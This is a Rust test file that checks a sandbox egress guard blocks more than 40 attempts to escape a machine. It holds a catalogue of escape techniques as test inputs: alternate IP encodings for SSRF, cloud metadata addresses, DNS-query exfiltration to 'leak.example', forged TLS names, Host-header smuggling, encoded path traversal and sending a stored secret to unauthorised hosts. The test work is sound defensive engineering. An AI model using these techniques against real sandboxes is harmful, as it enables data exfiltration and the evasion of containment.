//! Attempts to get out, from inside of a machine: each fails, and each succeeds when the guard
//! against it is removed (`egress/src/unguarded.rs`, which release builds do not have).

use crate::clients::{Bench, bench};
use crate::web::{PLAIN, TLS};
use crate::{World, slow};
use stasis_api::{Name, Network, NewMachine, SetSecret};
use stasis_egress::EgressGuard::{self, *};
use stasis_machine::Machine;
use stasis_policy::document;
use stasis_testbed::run;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket};
use std::sync::Arc;

const VALUE: &str = "v4lue-0utside";

/// An attempt: its name, the guards against it, and code whose value is true if it succeeds.
struct Attempt {
    name: &'static str,
    guards: &'static [EgressGuard],
    code: String,
}

fn attempt(name: &'static str, guards: &'static [EgressGuard], code: String) -> Attempt {
    Attempt { name, guards, code }
}

const TOOLS: &str = r#"
import os, socket, ssl, urllib.error, urllib.request
PATIENCE = 60
def talk(address, port, data=b'GET /v1/ok HTTP/1.0\r\nHost: x\r\n\r\n', family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(PATIENCE)
        one.connect((address, port))
        one.sendall(data)
        got = b''
        while b'good day' not in got and b'inside' not in got and len(got) < 99999:
            piece = one.recv(4096)
            if not piece: break
            got += piece
            if data in got: break
        return got
def dgram(address, port, data=b'inside'):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(PATIENCE)
        one.connect((address, port))
        one.send(data)
        return one.recv(4096)
def get(url, method='GET', **headers):
    request = urllib.request.Request(url, method=method, headers=headers)
    return urllib.request.urlopen(request, timeout=PATIENCE).read()
def tls(address, port, name, piece=99999):
    context = ssl.create_default_context()
    inside, outside = ssl.MemoryBIO(), ssl.MemoryBIO()
    one = context.wrap_bio(inside, outside, server_hostname=name)
    with socket.create_connection((address, port), timeout=PATIENCE) as raw:
        first = True
        def work(step):
            nonlocal first
            while True:
                try: done = step()
                except ssl.SSLWantReadError: done = None
                data = outside.read()
                if data and first:
                    first, body = False, data[5:]
                    parts = [body[at:at + piece] for at in range(0, len(body), piece)]
                    head = data[:3]
                    data = b''.join(head + len(p).to_bytes(2, 'big') + p for p in parts)
                if data: raw.sendall(data)
                if done is not None: return done
                data = raw.recv(65536)
                if not data: raise OSError('it ended')
                inside.write(data)
        work(lambda: one.do_handshake() or True)
        work(lambda: one.write(f'GET /v1/ok HTTP/1.0\r\nHost: {name}:{port}\r\n\r\n'.encode()))
        return work(lambda: one.read(4096))
def escaped(call, found=(b'inside', b'good day')):
    try: got = call()
    except (OSError, UnicodeError): return False
    return any(word in got for word in found)
"#;

/// A service of the host that machines must not reach: it answers HTTP and datagrams.
fn service(here: Ipv4Addr, six: Option<Ipv6Addr>) -> u16 {
    let listener = TcpListener::bind((here, 0)).expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let datagrams = UdpSocket::bind((here, port)).expect("a port");
    let six = six.map(|six| TcpListener::bind((six, port)).expect("a port"));
    for listener in [Some(listener), six].into_iter().flatten() {
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                std::thread::spawn(move || {
                    let _ = stream.read(&mut [0; 4096]);
                    let _ = stream.write_all(b"HTTP/1.0 200 OK\r\n\r\ninside");
                });
            }
        });
    }
    std::thread::spawn(move || {
        let mut buffer = [0; 1500];
        while let Ok((_, from)) = datagrams.recv_from(&mut buffer) {
            let _ = datagrams.send_to(b"inside", from);
        }
    });
    port
}

/// Makes a machine under a policy, and tries everything on it with and without its guards.
fn hold(bench: &Bench, name: &str, policy: &str, attempts: &[Attempt]) -> usize {
    let own: Name = name.parse().expect("a name");
    let document = document::parse(policy).expect("a policy");
    bench.host.set_policy(own.clone(), document).expect("set");
    let network = Some(Network::Policy(own.clone()));
    let new = NewMachine { name: Some(own.clone()), network, ..NewMachine::default() };
    let machine = bench.host.create("test", new).expect("a machine");
    run(&machine, TOOLS);
    for attempt in attempts {
        assert!(!escapes(&machine, attempt), "{} is not held", attempt.name);
    }
    for attempt in attempts {
        stasis_egress::remove_guards(name, attempt.guards);
        let escaped = escapes(&machine, attempt);
        stasis_egress::remove_guards(name, &[]);
        let why = "try: got = why()\nexcept Exception as error: got = error\nrepr(got)";
        assert!(escaped, "{}: its guard is not what holds it: {}", attempt.name, {
            run(&machine, &format!("why = lambda: {}", attempt.code));
            slow(&machine, why)
        });
    }
    attempts.len()
}

fn escapes(machine: &Arc<Machine>, attempt: &Attempt) -> bool {
    match slow(machine, &format!("escaped(lambda: {})", attempt.code)).as_str() {
        "True" => true,
        "False" => false,
        other => panic!("{}: {other}", attempt.name),
    }
}

fn floor(world: &World, port: u16) -> Vec<Attempt> {
    let here = world.outside.here;
    let [a, b, c, d] = here.octets();
    let number = u32::from(here);
    let at = |address: String| format!("talk('{address}', {port})");
    let to = format!("http://{here}:{port}/");
    let six =
        || attempt("a name of the host in IPv6", &[Answers, Floor], at("six.bound.example".into()));
    let mut all = vec![
        attempt("the host's address", &[Floor], at(here.to_string())),
        attempt("as one number", &[Floor], at(number.to_string())),
        attempt("as a hexadecimal number", &[Floor], at(format!("{number:#x}"))),
        attempt(
            "in octal parts",
            &[Floor],
            at(format!("{a:#o}.{b:#o}.{c:#o}.{d:#o}").replace('o', "")),
        ),
        attempt("in two parts", &[Floor], at(format!("{a}.{}", number & 0xff_ffff))),
        attempt("in hexadecimal parts", &[Floor], at(format!("{a:#x}.{b:#x}.{c:#x}.{d:#x}"))),
        attempt(
            "mapped into IPv6",
            &[Floor],
            format!("talk('::ffff:{here}', {port}, family=socket.AF_INET6)"),
        ),
        attempt("a datagram", &[Floor], format!("dgram('{here}', {port})")),
        attempt("a link-local address", &[Floor], format!("talk('169.254.77.7', {PLAIN})")),
        attempt("a metadata service", &[Floor], format!("talk('100.100.100.200', {PLAIN})")),
        attempt("another metadata service", &[Floor], format!("talk('168.63.129.16', {PLAIN})")),
        attempt("another port of the resolver", &[Floor], format!("talk('192.0.0.1', {PLAIN})")),
        attempt("a name of the host", &[Answers, Floor], at("host.bound.example".into())),
        attempt("in upper case", &[Answers, Floor], at("HOST.Bound.EXAMPLE".into())),
        attempt("with a dot at its end", &[Answers, Floor], at("host.bound.example.".into())),
        attempt(
            "a name of a link-local address",
            &[Answers, Floor],
            format!("talk('link.bound.example', {PLAIN})"),
        ),
        attempt(
            "a redirect to the host",
            &[Floor],
            format!("get('http://api.example:{PLAIN}/v1/to?{to}')"),
        ),
    ];
    all.extend(world.outside.six.map(|_| six()));
    all
}

fn private(world: &World) -> Vec<Attempt> {
    let there = world.outside.there;
    let number = u32::from(there);
    vec![
        attempt("a private address", &[Private], format!("talk('{there}', {PLAIN})")),
        attempt("it as a number", &[Private], format!("talk('{number}', {PLAIN})")),
        attempt("a name of it", &[Private], format!("talk('inner.example', {PLAIN})")),
        attempt("QUIC", &[Quic], "dgram('echo.example', 443)".into()),
    ]
}

fn names(world: &World) -> Vec<Attempt> {
    let (unnamed, there) = (world.outside.unnamed, world.outside.there);
    let at = |name: &str| format!("talk('{name}', {PLAIN})");
    let query = "b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\7example\\0\\0\\1\\0\\1'";
    const UNKNOWN: &[EgressGuard] = &[Lookup, Connect, Private];
    vec![
        attempt("an address", &[Connect], at(&unnamed.to_string())),
        attempt("it as a number", &[Connect], at(&u32::from(unnamed).to_string())),
        attempt("another name", UNKNOWN, at("elsewhere.example")),
        attempt("a longer name", UNKNOWN, at("api.example.evil.example")),
        attempt("a longer label", UNKNOWN, at("evilapi.example")),
        attempt("a name below", UNKNOWN, at("sub.api.example")),
        attempt("a name above a wildcard", UNKNOWN, at("wild.example")),
        attempt("a letter that looks the same", UNKNOWN, at("\\u0430pi.example")),
        attempt(
            "a question that carries data",
            &[Lookup],
            "socket.gethostbyname('s3cret.leak.example') and b'inside'".into(),
        ),
        attempt(
            "another resolver",
            &[Connect, Private],
            format!("dgram('{there}', 53, {query}) and b'inside'"),
        ),
        attempt("another port", &[Connect], at("pass.example")),
        attempt("a datagram", &[Connect], "dgram('pass.example', 123)".into()),
        attempt(
            "a forged name in TLS",
            &[ServerName],
            format!("tls('pass.example', {TLS}, 'denied.example')"),
        ),
        attempt(
            "a forged name in pieces",
            &[ServerName],
            format!("tls('pass.example', {TLS}, 'denied.example', 7)"),
        ),
        attempt("an encrypted name", &[HiddenName], hello(&[("echo.example", 0), ("", 0xfe0d)])),
        attempt("two names", &[BadHello], hello(&[("echo.example", 0), ("denied.example", 0)])),
        attempt(
            "no TLS at all",
            &[BadHello],
            "talk('echo.example', 443, b'\\x16\\3\\1\\0\\0') and b'inside'".into(),
        ),
    ]
}

/// A hello that is echoed if it gets through.
fn hello(extensions: &[(&str, u16)]) -> String {
    use stasis_egress::fuzzing::hello;
    let one = |(name, kind): &(&str, u16)| match kind {
        0 => hello::named(name),
        kind => (*kind, vec![0; 40]),
    };
    let extensions: Vec<(u16, Vec<u8>)> = extensions.iter().map(one).collect();
    let bytes = hello::hello(&extensions, 1 << 14);
    format!("len(talk('echo.example', 443, bytes({bytes:?})).strip()) and b'inside'")
}

fn requests() -> Vec<Attempt> {
    let plain = |first: &str, head: &str| {
        let head = head.replace("\r\n", "\\r\\n");
        format!("talk('api.example', {PLAIN}, b'{first}\\r\\n{head}Connection: close\\r\\n\\r\\n')")
    };
    let own = format!("Host: api.example:{PLAIN}\r\n");
    let other = format!("Host: denied.example:{PLAIN}\r\n");
    let ok = "GET /v1/ok HTTP/1.1";
    vec![
        attempt("another host in the head", &[Head], plain(ok, &other)),
        attempt("two hosts", &[Head], plain(ok, &format!("{own}{other}"))),
        attempt(
            "another host in the address",
            &[Head],
            plain(&format!("GET http://denied.example:{PLAIN}/v1/ok HTTP/1.1"), &own),
        ),
        attempt(
            "a user in the host",
            &[Head],
            plain(ok, &format!("Host: denied.example@api.example:{PLAIN}\r\n")),
        ),
        attempt("another port in the host", &[Head], plain(ok, "Host: api.example:81\r\n")),
        attempt("no host", &[Head], plain("GET /v1/ok HTTP/1.0", "")),
        attempt(
            "another scheme",
            &[Head],
            plain(&format!("GET https://api.example:{PLAIN}/v1/ok HTTP/1.1"), &own),
        ),
        attempt("TRACE", &[Head, Request], plain("TRACE /v1/ok HTTP/1.1", &own)),
        attempt("another method", &[Request], plain("DELETE /v1/ok HTTP/1.1", &own)),
        attempt("a made-up method", &[Request], plain("get /v1/ok HTTP/1.1", &own)),
        attempt("another path", &[Request], plain("GET /v2/ok HTTP/1.1", &own)),
        attempt("a path upwards", &[Request], plain("GET /v1/../v2/ok HTTP/1.1", &own)),
        attempt(
            "an encoded path upwards",
            &[Request],
            plain("GET /v1/%2e%2e/v2/ok HTTP/1.1", &own),
        ),
        attempt("an empty part", &[Request], plain("GET /v1//ok HTTP/1.1", &own)),
        attempt("an encoded slash", &[Request], plain("GET /v1/a%2fok HTTP/1.1", &own)),
        attempt(
            "another method in TLS",
            &[Request],
            format!("get('https://api.example:{TLS}/v1/ok', 'DELETE')"),
        ),
        attempt(
            "another path in TLS",
            &[Request],
            format!("get('https://api.example:{TLS}/v2/ok')"),
        ),
    ]
}

fn secrets() -> Vec<Attempt> {
    let carry = |host: &str, port: u16, scheme: &str| {
        format!(
            "(lambda got: b'inside' if b'{VALUE}' in got else got)(\
             get('{scheme}://{host}:{port}/v1/head', X=os.environ['STASIS_SECRET_HELD']))"
        )
    };
    vec![
        attempt("a key for another host", &[Binding], carry("other.example", PLAIN, "http")),
        attempt("a key without TLS", &[Binding], carry("api.example", PLAIN, "http")),
        attempt("a key that is not granted", &[Grant], carry("bound.example", PLAIN, "http")),
    ]
}

pub fn attempts_to_get_out_fail(world: &World) {
    let bench = bench(world);
    let (here, public) = (world.outside.here, world.outside.public);
    let here_v6 = world.outside.six.map(|[here, _]| here);
    let port = service(here, here_v6);
    let named = here_v6.map(|six| ("six.bound.example".to_owned(), six));
    world.outside.names_v6.lock().expect("no panic").extend(named);
    for address in ["169.254.77.7", "100.100.100.200", "168.63.129.16", "192.0.0.1"] {
        world.outside.link(address.parse().expect("an address"));
    }
    let own = |name: &str, address| (name.to_owned(), address);
    world.outside.names.lock().expect("no panic").extend([
        own("host.bound.example", here),
        own("link.bound.example", "169.254.77.7".parse().expect("an address")),
        own("echo.example", public),
        own("other.example", public),
        own("bound.example", public),
    ]);
    let mut pages = bench.web.pages.lock().expect("no panic");
    for path in ["/v2/ok", "/v1/../v2/ok", "/v1/%2e%2e/v2/ok", "/v1//ok", "/v1/a%2fok"] {
        pages.insert(path.to_owned(), b"good day".to_vec());
    }
    drop(pages);
    let secret = SetSecret {
        value: Some(VALUE.into()),
        hosts: vec![format!("api.example:{TLS}"), format!("bound.example:{PLAIN}")],
        ..SetSecret::default()
    };
    bench.host.set_secret("test", "HELD", secret).expect("set");
    let wide = format!(
        "[network]\nallow = [\"{here}:*\", \"{here}:*/udp\", \"169.254.0.0/16:*\", \
         \"*.bound.example:*\", \"0.0.0.0/0:*\", \"api.example:{PLAIN}\"]"
    );
    let open = "[network]\nallow = [\"*:*\", \"0.0.0.0/0:*\", \"echo.example:443/udp\"]";
    let narrow = format!(
        "[network]\nallow = [\"api.example:{TLS}\", \"pass.example:{TLS}\", \"*.wild.example:*\", \
         \"echo.example:443\"]"
    );
    let judged = format!(
        "[http]\nallow = [\"GET api.example:{TLS}/v1/*\", \"GET api.example:{PLAIN}/v1/*\"]"
    );
    let keys = format!(
        "[http]\nallow = [\"GET api.example:{PLAIN}\", \"GET api.example:{TLS}\", \
         \"GET other.example:{PLAIN}\", \"GET bound.example:{PLAIN}\"]\n[secrets]\n\
         allow = [\"HELD@api.example\", \"HELD@api.example:{PLAIN}\", \
         \"HELD@api.example:{TLS}\", \"HELD@other.example:{PLAIN}\"]"
    );
    let tried = hold(bench, "held-floor", &wide, &floor(world, port))
        + hold(bench, "held-private", open, &private(world))
        + hold(bench, "held-names", &narrow, &names(world))
        + hold(bench, "held-requests", &judged, &requests())
        + hold(bench, "held-secrets", &keys, &secrets());
    assert!(tried >= 40, "{tried}");
    // nothing in a machine signs certificates
    let machine = bench.host.machine("held-secrets").expect("the machine");
    let code = "sorted(name for name in os.listdir('/etc/stasis') \
                if b'PRIVATE' in open('/etc/stasis/' + name, 'rb').read())";
    assert_eq!(slow(&machine, code), "[]");
}
